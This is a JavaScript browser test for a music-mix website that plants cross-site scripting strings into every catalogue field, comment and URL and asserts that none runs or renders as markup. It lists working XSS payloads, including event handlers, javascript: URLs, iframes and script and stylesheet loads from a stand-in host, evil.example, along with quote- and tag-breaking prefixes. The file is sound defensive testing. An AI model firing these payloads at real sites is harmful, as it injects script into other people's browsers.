/**
 * Texts that are scripts: in every field that people fill, in every view that shows it, and in addresses. None runs, none
 * becomes markup, and the browser has nothing to report. `ENDURE_SHARE` adds that share of five thousand texts.
 */
import assert from 'node:assert/strict';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { journeys } from '../journey.mjs';
import { siteDir } from '../programs.mjs';
import { signInProven } from '../steps.mjs';

const short = 50;
const share = Number(process.env.ENDURE_SHARE ?? '0');
const rounds = Math.max(1, Math.floor((5000 * share) / short));
const limitMs = 300_000;

const bodies = [
  '<script>hit()</script>',
  '<img src=x onerror=hit()>',
  '<svg onload=hit()>',
  '<svg><script>hit()</script></svg>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<a href="javascript:hit()" autofocus onfocus=hit()>x</a>',
  '<input autofocus onfocus=hit()>',
  '<details open ontoggle=hit()>x</details>',
  '<video><source onerror=hit()></video>',
  '<body onload=hit()>',
  '<meta http-equiv="refresh" content="0;url=javascript:hit()">',
  '<base href="//evil.example/">',
  '<object data="javascript:hit()"></object>',
  '<embed src="javascript:hit()">',
  '<form action="javascript:hit()"><button autofocus onfocus=hit()>x</button></form>',
  '<math><mtext><style><img src=x onerror=hit()></style></mtext></math>',
  '<style>@import "//evil.example/a.css";*{background:url(//evil.example/b)}</style>',
  '<link rel=stylesheet href="//evil.example/a.css">',
  '<template shadowrootmode=open><script>hit()</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>"></noscript>',
  '<script src="//evil.example/a.js"></script>',
  '<script type=module>hit()</script>',
  '<?xml-stylesheet href="javascript:hit()"?>',
  'javascript:hit()//',
];

/** What an attacker ends first, so that the rest is out of its text. */
const fronts = [
  '',
  '"',
  "'",
  '">',
  "'>",
  '</script>',
  '</title>',
  '</textarea>',
  '-->',
  ']]>',
  '</style>',
  '<!--<script>',
  '\\',
  '\\"',
  '\u2028',
  '\u2029',
  '&quot;>',
  '&lt;',
  '%3e%22',
  '`${',
  '{{',
  '\u0000',
  '\ufeff',
  '"}</script>',
  "';hit();'",
];

/** The texts of a round: every body and every front is in each, together in another way. */
function texts(round) {
  return Array.from({ length: short }, (_, at) => {
    const front = fronts[(at * 7 + round) % fronts.length] ?? '';
    const body = bodies[(at + Math.floor(at / 25) * 3 + round * 3) % bodies.length] ?? '';
    const text = `${front}${body}`.replaceAll('\u0000', '');
    return round % 4 === 3 ? text.replaceAll(/script|img|svg/g, (word) => word.toUpperCase()) : text;
  });
}

const lines = (folder, name) =>
  readFileSync(join(folder, name), 'utf8')
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line));

const write = (folder, name, rows) =>
  writeFileSync(join(folder, name), `${rows.map((row) => JSON.stringify(row)).join('\n')}\n`);

/** Puts the texts into every field of a catalogue's files, each text in many of them. */
function plant(folder, all) {
  let count = 0;
  const next = () => all[count++ % all.length];
  const artists = lines(folder, 'artists.jsonl').map((artist, at) => ({
    ...artist,
    // No two artists have one name.
    name: `${next()} ${at}`,
  }));
  const nameOf = new Map(artists.map((artist) => [artist.id, artist.name]));
  const named = (artist) => ({ ...artist, name: nameOf.get(artist.artist_id) });
  const tracks = lines(folder, 'tracks.jsonl').map((track) => ({
    ...track,
    title: next(),
    label: next(),
    artists: track.artists.map((artist) => ({ ...named(artist), join_phrase: next() })),
    aliases: track.aliases.map((alias) => ({ ...alias, alias: next() })),
  }));
  const mixes = lines(folder, 'mixes.jsonl').map((mix) => ({
    ...mix,
    title: next(),
    description: next(),
    genre: next(),
    venue: next(),
    location: next(),
    artists: mix.artists.map(named),
  }));
  const lists = lines(folder, 'lists.jsonl').map((list) => ({ ...list, title: next(), description: next() }));
  write(folder, 'artists.jsonl', artists);
  write(folder, 'tracks.jsonl', tracks);
  write(folder, 'mixes.jsonl', mixes);
  write(folder, 'lists.jsonl', lists);
  return { artists, mixes, lists };
}

/** Listens for what must not happen, on every page that the context opens. */
async function watch(context) {
  const told = [];
  await context.exposeFunction('hit', () => told.push('a text was run'));
  await context.exposeFunction('report', (text) => told.push(`a report of the browser: ${text}`));
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      window.report(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
    });
  });
  await context.route(
    ({ host }) => host === 'evil.example',
    (route) => {
      told.push(`a text asked for ${route.request().url()}`);
      return route.abort();
    },
  );
  return told;
}

/** Elements that only a text could have made. */
/** The page's own script that stands in it: the server's policy names it by its digest. */
const ownScripts = ['index.html', 'embed.html'].flatMap((name) =>
  [...readFileSync(join(siteDir, name), 'utf8').matchAll(/<script>(.*?)<\/script>/gs)].map(
    ([, text]) => text,
  ),
);

const foreign = (own) =>
  [...document.querySelectorAll('*')]
    .filter((element) => {
      const names = element.getAttributeNames();
      const isHandled = names.some((name) => name.startsWith('on'));
      const leads = ['href', 'src', 'action', 'formaction', 'data', 'srcdoc'].some((name) =>
        /^\W*javascript:|</i.test(element.getAttribute(name) ?? ''),
      );
      const isScript = element.localName === 'script' && !element.hasAttribute('src');
      const isData = /json/.test(element.getAttribute('type') ?? '');
      const isOdd = ['base', 'object', 'embed', 'math'].includes(element.localName);
      return isHandled || leads || (isScript && !isData && !own.includes(element.textContent)) || isOdd;
    })
    .map((element) => element.outerHTML.slice(0, 200));

async function look(page, told, url, isOurs = true) {
  try {
    await page.goto(url, { waitUntil: 'load' });
  } catch (error) {
    // What is handed over as a file is not shown at all.
    if (!/Download is starting|ERR_ABORTED/.test(String(error))) throw error;
    return;
  }
  const check = async () => {
    assert.deepEqual(await page.evaluate(foreign, ownScripts), [], url);
    assert.deepEqual(told, [], url);
  };
  await check();
  if (!isOurs) return;
  // Once more when the site has drawn the page.
  await page.locator('#root :visible').first().waitFor();
  await check();
}

const encoded = (text) => encodeURIComponent(text);

async function lookEverywhere(page, told, address, all, { artists, mixes, lists }) {
  await look(page, told, `${address}/`);
  for (const list of lists.slice(0, 1)) await look(page, told, `${address}/lists/${list.slug}`);
  for (const mix of mixes.slice(0, 2)) {
    const path = `${address}/mix/${encoded(mix.slug)}`;
    await look(page, told, path);
    await look(page, told, `${path}?track=1&t=60`);
    await look(page, told, `${address}/embed/${encoded(mix.slug)}`);
    for (const ending of ['.json', '.txt', '.cue', '.chapters.json']) {
      await look(page, told, `${path}${ending}`, false);
    }
    const page_ = encoded(`${address}/mix/${mix.slug}`);
    for (const form of ['json', 'xml'])
      await look(page, told, `${address}/oembed?url=${page_}&format=${form}`, false);
  }
  for (const artist of artists.slice(0, 2))
    await look(page, told, `${address}/artist/${encoded(artist.name)}`);
  for (const path of ['/feeds/latest.atom', '/feeds/latest.json', '/sitemap.xml', '/api/home', '/robots.txt'])
    await look(page, told, address + path, false);
  // What stands in an address.
  for (const text of all.filter((_, at) => at % 25 === 0)) {
    await look(page, told, `${address}/search?q=${encoded(text)}`);
    for (const path of ['/mix/', '/lists/', '/artist/', '/no/such/', '/embed/'])
      await look(page, told, `${address}${path}${encoded(text)}`);
    await look(
      page,
      told,
      `${address}/auth/callback?error=${encoded(text)}&state=${encoded(text)}#token=${encoded(text)}`,
    );
    await look(page, told, `${address}/sign-in?redirect=${encoded(text)}`);
    await look(page, told, `${address}/api/search?q=${encoded(text)}`, false);
  }
}

/** Members who comment on a mix, each in as many texts as fit into half a minute's limit. */
async function comment(page, address, mix, all) {
  const most = 9;
  for (const [at, name] of ['ada', 'kelp', 'halide'].entries()) {
    await signInProven(page.context(), address, `${name}@mixes.example`);
    await page.goto(`${address}/submit-mix`);
    const statuses = await page.evaluate(
      async ([id, bodies]) => {
        const send = (path, body) =>
          fetch(path, {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify(body),
          }).then((answer) => answer.status);
        const seen = [];
        for (const body of bodies) seen.push(await send(`/api/mixes/${id}/comments`, { text: body }));
        return seen;
      },
      [mix.id, all.slice(at * most, (at + 1) * most)],
    );
    assert.ok(
      statuses.every((status) => status === 201),
      statuses.join(' '),
    );
  }
}

journeys([
  {
    name: 'scripts in every text and every address: none runs, none becomes markup, nothing is reported',
    limitMs: limitMs * rounds,
    allows: [/40[0-9]|422/, /XML|xml|parser error/],
    async run({ page, context, world }) {
      const told = await watch(context);
      for (let round = 0; round < rounds; round += 1) {
        const all = texts(round);
        let planted;
        const server = await world.ownServer(
          (folder) => {
            planted = plant(folder, all);
          },
          { SEGUE_COMMENTS_ENABLED: 'true' },
        );
        await comment(page, server.address, planted.mixes[0], all);
        await lookEverywhere(page, told, server.address, all, planted);
        // What the page listens to must not break off under it.
        await page.goto('about:blank');
        await server.kill();
      }
      console.log(`  endured: ${rounds * short} texts in every field and view, 0 run, 0 reports`);
    },
  },
]);
